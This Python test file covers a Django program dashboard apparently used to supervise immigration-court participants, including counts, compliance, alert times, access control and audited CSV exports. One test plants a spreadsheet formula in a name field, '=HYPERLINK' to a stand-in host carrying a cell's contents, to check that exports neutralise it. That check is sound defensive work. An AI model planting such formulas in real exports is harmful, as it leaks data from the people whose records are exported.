"""The program dashboard: counts reconciled against records written through the real
services, as of the present and of a past instant; its CSV downloads and their access-log
entries; who sees what."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections import Counter
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from ontrack.accounts.models import Office, Role, User
from ontrack.alerts.durations import duration_text
from ontrack.alerts.models import Alert
from ontrack.alerts.services import alert_acknowledge, alert_clear, alert_raise, alert_resolve
from ontrack.audit.models import AccessAction, AccessLogEntry
from ontrack.messaging.models import Message, MessageStatus
from ontrack.messaging.services import message_queue, message_status_set
from ontrack.participants.models import Hearing, HearingOutcome, Participant
from ontrack.participants.services import (
    PlanData,
    hearing_add,
    hearing_update,
    participant_activate,
    participant_close,
    participant_suspend,
    plan_change,
)
from ontrack.reports.charts import bar_chart
from ontrack.reports.dashboard import (
    DashboardScope,
    Table,
    alerts_table,
    census,
    census_tables,
    checkins_table,
    closures_table,
    dashboard_tables,
    enrolments_table,
    hearings_table,
    messages_table,
    participant_list,
)
from ontrack.reports.dashboard.alerts import WholeMinutes, nearest_rank
from ontrack.schedule.models import CheckinWindow
from ontrack.schedule.services import (
    checkin_submit,
    checkin_technical_failure,
    missed_checkins_mark,
    window_adhoc,
    window_excuse,
)
from tests.support import photo_bytes, raised_alert, total_row

pytestmark = pytest.mark.django_db

PHOTO = photo_bytes()


def _plan(level: str = "standard", **modalities: bool) -> PlanData:
    review = timezone.localdate() + dt.timedelta(days=90)
    return PlanData(level=level, review_date=review, **modalities)


def _scope(*, days_back: int = 90, as_of: dt.datetime | None = None, **ids: int) -> DashboardScope:
    now = timezone.now()
    return DashboardScope(
        start=now - dt.timedelta(days=days_back),
        end=now + dt.timedelta(minutes=1),
        as_of=as_of or now + dt.timedelta(seconds=1),
        **ids,
    )


def _rows(table: Table) -> dict[str, list[Any]]:
    return {str(row[0]): row[1:] for row in table.rows}


@pytest.fixture
def caseload(make_participant: Callable[..., Participant], officer: User) -> dict[str, Participant]:
    """Four people at the Newark office, with a history:

    - ``enrolled``: 60 days ago, standard, app and office; activated now; plan raised to
      high now.
    - ``suspended``: 40 days ago, intensive with a GPS device; suspended now.
    - ``closed``: 50 days ago, low, phone check-ins only; closed now (case concluded).
    - ``recent``: 5 days ago, minimal, office visits only.
    """
    now = timezone.now()
    people = {
        "enrolled": make_participant(
            plan=_plan("standard", app_checkins=True, office_visits=True),
            enrolled_at=now - dt.timedelta(days=60),
        ),
        "suspended": make_participant(
            plan=_plan("intensive", gps_device=True, app_checkins=True),
            enrolled_at=now - dt.timedelta(days=40),
        ),
        "closed": make_participant(
            plan=_plan("low", app_checkins=False, phone_checkins=True, office_visits=False),
            enrolled_at=now - dt.timedelta(days=50),
        ),
        "recent": make_participant(
            plan=_plan("minimal", app_checkins=False, office_visits=True),
            enrolled_at=now - dt.timedelta(days=5),
        ),
    }
    participant_activate(people["enrolled"], actor=officer)
    plan_change(
        people["enrolled"],
        actor=officer,
        plan=_plan("high", app_checkins=True, office_visits=True),
        reason="Two missed check-ins",
    )
    participant_suspend(people["suspended"], actor=officer, reason="In hospital")
    participant_close(people["closed"], actor=officer, reason="case_concluded")
    return people


def test_supervised_counts_by_status_level_and_modality_as_of_now(
    caseload: dict[str, Participant], officer: User
) -> None:
    status, level, modality = census_tables(census(officer, _scope()))
    assert _rows(status) == {
        "Enrolled": [1, "33.3 %"],
        "Active": [1, "33.3 %"],
        "Suspended": [1, "33.3 %"],
    }
    assert _rows(level)["High"][0] == 1
    assert _rows(level)["Intensive"][0] == 1
    assert _rows(level)["Minimal"][0] == 1
    assert _rows(level)["Standard"][0] == 0
    assert {k: v[0] for k, v in _rows(modality).items()} == {
        "GPS device": 1,
        "App check-ins": 1,
        "Phone check-ins": 0,
        "Office visits only": 1,
    }


def test_every_breakdown_of_the_supervised_adds_up_to_the_same_whole(
    caseload: dict[str, Participant], officer: User
) -> None:
    tables = census_tables(census(officer, _scope()))
    totals = {t.key: total_row(t)[1] for t in tables}
    assert totals == {"status": 3, "level": 3, "modality": 3}
    for table in tables:
        assert sum(row[1] for row in table.rows) == total_row(table)[1], table.key
    assert participant_list(officer, _scope()).count() == 3


def test_as_of_a_past_date_ignores_later_transitions_plans_and_enrolments(
    caseload: dict[str, Participant], officer: User
) -> None:
    ten_days_ago = timezone.now() - dt.timedelta(days=10)
    status, level, modality = census_tables(census(officer, _scope(as_of=ten_days_ago)))
    assert total_row(status)[1] == 3, "recent was not enrolled yet; closed was still open"
    assert _rows(status)["Enrolled"][0] == 3, "activation and suspension happened later"
    assert _rows(level)["Standard"][0] == 1, "the plan was raised to high only now"
    assert _rows(level)["Low"][0] == 1
    assert _rows(level)["High"][0] == 0
    assert _rows(modality)["Phone check-ins"][0] == 1
    assert _rows(modality)["Office visits only"][0] == 0
    listed = {
        p.case_number: p.status_at for p in participant_list(officer, _scope(as_of=ten_days_ago))
    }
    assert listed == {
        caseload[k].case_number: "enrolled" for k in ("enrolled", "suspended", "closed")
    }


def test_enrolments_and_closures_by_reason_count_only_the_period_before_as_of(
    caseload: dict[str, Participant], officer: User
) -> None:
    last_30_days = _scope(days_back=30)
    enrolments = enrolments_table(officer, last_30_days)
    assert enrolments.rows == [["Newark", 1, 1]], "recent enrolled, closed closed"
    assert _rows(closures_table(officer, last_30_days))["Case concluded"][0] == 1
    yesterday = _scope(days_back=30, as_of=timezone.now() - dt.timedelta(days=1))
    assert enrolments_table(officer, yesterday).total == ["Total", 1, 0]
    assert total_row(closures_table(officer, yesterday))[1] == 0


def _window(participant: Participant, officer: User, opens_at: dt.datetime) -> CheckinWindow:
    return window_adhoc(
        participant,
        actor=officer,
        opens_at=opens_at,
        closes_at=opens_at + dt.timedelta(hours=2),
        now=opens_at - dt.timedelta(hours=1),
    )


def test_checkin_compliance_keeps_each_outcome_apart(
    make_participant: Callable[..., Participant], officer: User
) -> None:
    person = make_participant(plan=_plan("standard", app_checkins=True))
    day = timezone.now().replace(hour=12, minute=0, second=0, microsecond=0)
    on_time = _window(person, officer, day - dt.timedelta(days=9))
    checkin_submit(
        participant=person, client_ref="a", attempted_at=on_time.opens_at + dt.timedelta(minutes=5),
        photo=PHOTO, photo_content_type="image/jpeg", lat=None, lon=None, accuracy_m=None,
        now=on_time.opens_at + dt.timedelta(minutes=6),
    )  # fmt: skip
    late = _window(person, officer, day - dt.timedelta(days=8))
    checkin_submit(
        participant=person, client_ref="b", attempted_at=late.closes_at + dt.timedelta(hours=1),
        photo=PHOTO, photo_content_type="image/jpeg", lat=None, lon=None, accuracy_m=None,
        now=late.closes_at + dt.timedelta(hours=1),
    )  # fmt: skip
    missed = _window(person, officer, day - dt.timedelta(days=7))
    assert missed_checkins_mark(now=missed.closes_at + dt.timedelta(days=1)) == 1
    excused = _window(person, officer, day - dt.timedelta(days=6))
    window_excuse(actor=officer, window_id=excused.pk, reason="At court", now=excused.opens_at)
    failed = _window(person, officer, day - dt.timedelta(days=5))
    checkin_technical_failure(
        participant=person, client_ref="c", attempted_at=failed.opens_at + dt.timedelta(minutes=1),
        reason="camera", now=failed.opens_at + dt.timedelta(minutes=1),
    )  # fmt: skip
    _window(person, officer, day + dt.timedelta(days=1) - dt.timedelta(hours=3))

    table = checkins_table(officer, _scope(days_back=30))
    counts = {k: v[0] for k, v in _rows(table).items()}
    assert counts == {
        "On time": 1,
        "Late": 1,
        "Missed": 1,
        "Excused": 1,
        "Technical failure": 1,
        "Due": 0,
    }, "the window opening later today is outside the range's end (now)"
    assert total_row(table)[1] == 5
    assert "66.7 %" in table.note, "2 of 3 judged windows were kept"

    # Half an hour after the late window closed, nothing had arrived for it yet.
    before_late = late.closes_at + dt.timedelta(minutes=30)
    then = {
        k: v[0]
        for k, v in _rows(checkins_table(officer, _scope(days_back=30, as_of=before_late))).items()
    }
    assert then == {
        "On time": 1,
        "Late": 0,
        "Missed": 0,
        "Excused": 0,
        "Technical failure": 0,
        "Due": 1,
    }


def test_hearing_attendance_by_outcome(
    make_participant: Callable[..., Participant], officer: User
) -> None:
    person = make_participant()
    now = timezone.now()
    outcomes = [HearingOutcome.ATTENDED] * 3 + [HearingOutcome.FAILED_TO_APPEAR]
    for days, outcome in enumerate(outcomes, start=2):
        hearing = hearing_add(
            person, actor=officer, scheduled_at=now - dt.timedelta(days=days),
            court="Newark Immigration Court", kind="master_calendar",
        )  # fmt: skip
        hearing_update(hearing, actor=officer, outcome=outcome)
    hearing_add(
        person, actor=officer, scheduled_at=now + dt.timedelta(days=20),
        court="Newark Immigration Court", kind="individual",
    )  # fmt: skip
    table = hearings_table(officer, _scope(days_back=30))
    assert _rows(table)["Attended"][0] == 3
    assert _rows(table)["Failed to appear"][0] == 1
    assert total_row(table)[1] == 4, "the hearing after the range is not counted"
    assert "75.0 %" in table.note


def _sos(person: Participant, *, n: int, occurred_at: dt.datetime) -> Alert:
    alert = alert_raise(
        participant_id=person.pk,
        kind="sos",
        source=f"device:{n}",
        occurred_at=occurred_at,
        now=occurred_at,
    )
    assert alert is not None, "the alert's rule is enabled"
    return alert


def test_alert_response_times_are_nearest_rank_median_and_p90(
    make_participant: Callable[..., Participant], officer: User
) -> None:
    person = make_participant()
    start = timezone.now() - dt.timedelta(days=3)
    for n in range(1, 11):
        occurred = start + dt.timedelta(hours=n)
        alert = _sos(person, n=n, occurred_at=occurred)
        alert_acknowledge(user=officer, alert_id=alert.pk, now=occurred + dt.timedelta(minutes=n))
        if n <= 5:
            alert_resolve(
                user=officer, alert_id=alert.pk, disposition="false_alarm",
                note="Pocket dial", now=occurred + dt.timedelta(minutes=10 * n),
            )  # fmt: skip
    tamper_at = start + dt.timedelta(days=1)
    alert_raise(
        participant_id=person.pk, kind="strap_tamper", source="device:1",
        occurred_at=tamper_at, now=tamper_at,
    )  # fmt: skip
    alert_clear(
        participant_id=person.pk, kind="strap_tamper", source="device:1",
        cleared_at=tamper_at + dt.timedelta(minutes=3),
    )  # fmt: skip
    battery_at = start + dt.timedelta(days=1)
    alert_raise(
        participant_id=person.pk, kind="low_battery", source="device:1",
        occurred_at=battery_at, now=battery_at,
    )  # fmt: skip
    alert_clear(
        participant_id=person.pk, kind="low_battery", source="device:1",
        cleared_at=battery_at + dt.timedelta(minutes=5),
    )  # fmt: skip

    for minutes, zone_person in ((20, person), (30, make_participant())):
        entered = start + dt.timedelta(days=2)
        zone_alert = raised_alert(
            participant_id=zone_person.pk, kind="exclusion_zone_entry", source="zone:1",
            occurred_at=entered, now=entered + dt.timedelta(minutes=2),
        )  # fmt: skip
        alert_acknowledge(
            user=officer, alert_id=zone_alert.pk,
            now=zone_alert.visible_at + dt.timedelta(minutes=minutes),
        )  # fmt: skip

    table = alerts_table(officer, _scope(days_back=30))
    rows = {row[0]: row for row in table.rows}
    assert set(rows) == {"SOS", "Strap tamper", "Entered an exclusion zone"}, (
        "a low battery cleared within grace never showed"
    )
    sos = rows["SOS"]
    assert sos[1:7] == ["Critical", 10, 10, 5, 0, 5]
    assert sos[7:] == ["5 min", "9 min", "30 min", "50 min"]
    assert rows["Strap tamper"][2:7] == [1, 0, 0, 1, 0]
    zone = rows["Entered an exclusion zone"]
    assert zone[1:4] == ["High", 2, 2]
    assert zone[7:9] == ["20 min", "30 min"]
    assert total_row(table)[2:7] == [13, 12, 5, 1, 7]
    # All twelve acknowledgements: 1..10, 20 and 30 minutes; the 6th and the 11th.
    assert total_row(table)[7:] == ["6 min", "20 min", "30 min", "50 min"]
    assert table.chart == [("SOS", 10), ("Entered an exclusion zone", 2), ("Strap tamper", 1)]

    # Before the sixth SOS was acknowledged: five acknowledged (1..5 min), none after.
    sixth = start + dt.timedelta(hours=6)
    then = alerts_table(officer, _scope(days_back=30, as_of=sixth + dt.timedelta(minutes=3)))
    sos_then = next(row for row in then.rows if row[0] == "SOS")
    assert sos_then[2:4] == [6, 5]
    assert sos_then[7:9] == ["3 min", "5 min"]


def test_messages_by_language_sent_delivered_and_failed(
    speaker_pair: tuple[Participant, Participant], officer: User
) -> None:
    spanish, english = speaker_pair
    outcomes: dict[Participant, list[MessageStatus | None]] = {
        spanish: [MessageStatus.DELIVERED, MessageStatus.DELIVERED, MessageStatus.FAILED],
        english: [MessageStatus.SENT, None],
    }
    for person, statuses in outcomes.items():
        for status in statuses:
            message = message_queue(
                participant=person, template_key="appointment_booked",
                context={"when": timezone.now(), "place": "970 Broad St", "purpose": "Plan review"},
                purpose="appointment booked",
            )  # fmt: skip
            assert message is not None
            if status is not None:
                message_status_set(message.pk, MessageStatus.SENDING)
                message_status_set(message.pk, status)
    table = messages_table(officer, _scope(days_back=1))
    rows = _rows(table)
    assert table.columns[1:] == [
        "Messages", "Delivered", "Sent, no receipt yet", "Failed", "Not sent", "Waiting",
    ]  # fmt: skip
    assert rows["Spanish"] == [3, 2, 0, 1, 0, 0]
    assert rows["English"] == [2, 0, 1, 0, 0, 1]
    assert table.total == ["Total", 5, 2, 1, 1, 0, 1]
    assert Message.objects.count() == 5


@pytest.fixture
def speaker_pair(
    make_participant: Callable[..., Participant],
) -> tuple[Participant, Participant]:
    return (
        make_participant(preferred_language="es", phones=["(973) 555-0110"]),
        make_participant(preferred_language="en", phones=["(973) 555-0111"]),
    )


def _numbers(tables: list[Table]) -> list[int]:
    return [
        v for t in tables for row in [*t.rows, t.total or []] for v in row if isinstance(v, int)
    ]


def test_an_officer_of_another_office_counts_none_of_it(
    caseload: dict[str, Participant],
    officer: User,
    make_office: Callable[..., Office],
    make_user: Callable[..., User],
) -> None:
    assert any(_numbers(dashboard_tables(officer, _scope()))), "the caseload's own officer"
    elsewhere = make_user(Role.OFFICER, office=make_office("Elizabeth"))
    numbers = _numbers(dashboard_tables(elsewhere, _scope()))
    assert numbers
    assert not any(numbers)


def test_supervisor_of_another_office_sees_none_but_administrator_sees_all(
    caseload: dict[str, Participant],
    make_office: Callable[..., Office],
    make_user: Callable[..., User],
) -> None:
    other = make_user(Role.SUPERVISOR, office=make_office("Elizabeth"))
    assert census(other, _scope()) == []
    admin = make_user(Role.ADMINISTRATOR, office=None)
    assert sum(row.count for row in census(admin, _scope())) == 3


def test_dashboard_page_shows_tables_charts_and_csv_links(
    caseload: dict[str, Participant], officer: User, client_for: Callable[[User], Client]
) -> None:
    page = client_for(officer).get("/reports/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Supervised by status" in html
    assert "Alerts by type and priority" in html
    assert 'class="chart"' in html
    assert "most intensive technology" in html
    assert "/reports/status.csv?" in html
    assert "Export the participant list" not in html, "officers do not export name lists"
    entry = AccessLogEntry.objects.get(user=officer)
    assert entry.action == AccessAction.LIST
    assert entry.what.startswith("dashboard ")


def test_dashboard_tables_with_many_columns_span_the_page_and_fold_on_a_phone(
    caseload: dict[str, Participant], officer: User, client_for: Callable[[User], Client]
) -> None:
    html = client_for(officer).get("/reports/").content.decode()
    alerts = html[html.index('id="alerts"') : html.index("</section>", html.index('id="alerts"'))]
    status = html[html.index('id="status"') : html.index("</section>", html.index('id="status"'))]
    assert '<table class="list responsive">' in alerts, "8 columns: folded into lines"
    assert '<table class="list">' in status, "3 columns fit a phone as a table"
    assert '<td data-label="Participants">' in status, "each value names its column"
    assert '<section class="card wide" id="alerts">' in html
    assert '<section class="card" id="status">' in html


def test_auditor_gets_no_dashboard(
    make_user: Callable[..., User], client_for: Callable[[User], Client]
) -> None:
    assert client_for(make_user(Role.AUDITOR)).get("/reports/").status_code == 403


def test_table_csv_holds_the_table_and_is_in_the_access_log(
    caseload: dict[str, Participant], officer: User, client_for: Callable[[User], Client]
) -> None:
    response = client_for(officer).get("/reports/level.csv?from=2000-01-01")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Level", "Participants", "Share"]
    assert ["High", "1", "33.3 %"] in rows
    assert rows[-1] == ["Total", "3", "100.0 %"]
    entry = AccessLogEntry.objects.get(user=officer, action=AccessAction.EXPORT)
    assert entry.what.startswith("dashboard level CSV 2000-01-01..")
    assert entry.participant_id is None


def test_unknown_table_is_not_found(officer: User, client_for: Callable[[User], Client]) -> None:
    assert client_for(officer).get("/reports/nothing.csv").status_code == 404


def test_participant_list_needs_a_supervisor_and_a_stated_purpose(
    caseload: dict[str, Participant],
    officer: User,
    make_user: Callable[..., User],
    client_for: Callable[[User], Client],
) -> None:
    assert (
        client_for(officer)
        .post("/reports/participants.csv", {"purpose": "Court statistics request"})
        .status_code
        == 403
    )
    supervisor = client_for(make_user(Role.SUPERVISOR))
    refused = supervisor.post("/reports/participants.csv", {"purpose": "  "})
    assert refused.status_code == 302
    assert not AccessLogEntry.objects.filter(action=AccessAction.EXPORT).exists()

    response = supervisor.post(
        "/reports/participants.csv?as_of="
        + (timezone.now() - dt.timedelta(days=10)).date().isoformat(),
        {"purpose": "Quarterly report to the court"},
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["case_number"] for r in rows) == sorted(
        caseload[k].case_number for k in ("enrolled", "suspended", "closed")
    )
    assert {r["status"] for r in rows} == {"enrolled"}
    logged = AccessLogEntry.objects.filter(action=AccessAction.EXPORT)
    assert Counter(logged.values_list("participant_id", flat=True)) == Counter(
        caseload[k].pk for k in ("enrolled", "suspended", "closed")
    )
    assert all("Quarterly report to the court" in e.what for e in logged)


def test_bar_chart_escapes_labels_and_scales_to_the_largest_value() -> None:
    chart = str(bar_chart([("<b>", 10), ("half", 5)], title="T & U"))
    assert "&lt;b&gt;" in chart
    assert "<b>" not in chart
    assert "T &amp; U" in chart
    assert '<rect width="100.0"' in chart
    assert '<rect width="50.0"' in chart
    assert str(bar_chart([], title="empty")) == ""


def test_bar_chart_labels_are_never_cut_short() -> None:
    label = "Newark Field Office enrolled this month"
    chart = str(bar_chart([(label, 3)], title="Enrolments"))
    assert f">{label}</span>" in chart
    assert "…" not in chart


def test_hearing_outcome_recorded_after_as_of_counts_as_scheduled(
    make_participant: Callable[..., Participant], officer: User
) -> None:
    person = make_participant()
    hearing = hearing_add(
        person, actor=officer, scheduled_at=timezone.now() - dt.timedelta(days=5),
        court="Newark Immigration Court", kind="master_calendar",
    )  # fmt: skip
    hearing_update(hearing, actor=officer, outcome=HearingOutcome.ATTENDED)
    hearing.refresh_from_db()
    assert hearing.outcome_recorded_at is not None
    an_hour_ago = timezone.now() - dt.timedelta(hours=1)
    then = _rows(hearings_table(officer, _scope(days_back=30, as_of=an_hour_ago)))
    assert (then["Scheduled"][0], then["Attended"][0]) == (1, 0)
    now = _rows(hearings_table(officer, _scope(days_back=30)))
    assert (now["Scheduled"][0], now["Attended"][0]) == (0, 1)


def test_hearing_outcome_without_a_recording_time_counts_from_the_hearing(
    make_participant: Callable[..., Participant], officer: User
) -> None:
    person = make_participant()
    hearing = hearing_add(
        person, actor=officer, scheduled_at=timezone.now() - dt.timedelta(days=5),
        court="Newark Immigration Court", kind="master_calendar",
    )  # fmt: skip
    Hearing.objects.filter(pk=hearing.pk).update(outcome=HearingOutcome.FAILED_TO_APPEAR)
    four_days_ago = timezone.now() - dt.timedelta(days=4)
    then = _rows(hearings_table(officer, _scope(days_back=30, as_of=four_days_ago)))
    assert then["Failed to appear"][0] == 1


def test_a_name_that_looks_like_a_formula_is_exported_as_text(
    make_participant: Callable[..., Participant],
    make_user: Callable[..., User],
    client_for: Callable[[User], Client],
) -> None:
    make_participant(given_name='=HYPERLINK("http://x.example/?"&B2)', family_name="@SUM(1)")
    response = client_for(make_user(Role.SUPERVISOR)).post(
        "/reports/participants.csv", {"purpose": "Quarterly report to the court"}
    )
    text = response.content.decode()
    assert "'=HYPERLINK(" in text
    assert "'@SUM(1)" in text
    assert ",=HYPERLINK" not in text


@pytest.mark.parametrize(
    "span",
    [
        dt.timedelta(minutes=2),
        dt.timedelta(minutes=2) - dt.timedelta(microseconds=1),
        dt.timedelta(seconds=60, microseconds=500_000),
        dt.timedelta(seconds=59, microseconds=999_999),
        dt.timedelta(hours=26, minutes=3, seconds=7, microseconds=123_456),
        dt.timedelta(0),
        dt.timedelta(minutes=-3),
    ],
)
def test_a_response_time_counts_the_whole_minutes_the_alert_page_shows(
    make_participant: Callable[..., Participant], span: dt.timedelta
) -> None:
    """The database counts the minutes exactly as the alert's own page does
    (``duration_text``), at the edge of a minute too: not a floating-point day fraction."""
    visible = timezone.now().replace(microsecond=250_000) - dt.timedelta(days=2)
    alert = raised_alert(
        participant_id=make_participant().pk, kind="sos", source="device:1",
        occurred_at=visible, now=visible,
    )  # fmt: skip
    Alert.objects.filter(pk=alert.pk).update(acknowledged_at=alert.visible_at + span)
    minutes = (
        Alert.objects.annotate(m=WholeMinutes("visible_at", "acknowledged_at"))
        .values_list("m", flat=True)
        .get(pk=alert.pk)
    )
    assert duration_text(dt.timedelta(minutes=minutes)) == duration_text(span)


def test_a_nearest_rank_percentile_is_the_smallest_value_with_that_share_at_or_below() -> None:
    histogram = {minute: 1 for minute in range(1, 71)}
    assert nearest_rank(histogram, 90) == 63
    assert nearest_rank(histogram, 50) == 35
    assert nearest_rank({5: 3, 9: 1}, 50) == 5
    assert nearest_rank({}, 50) is None
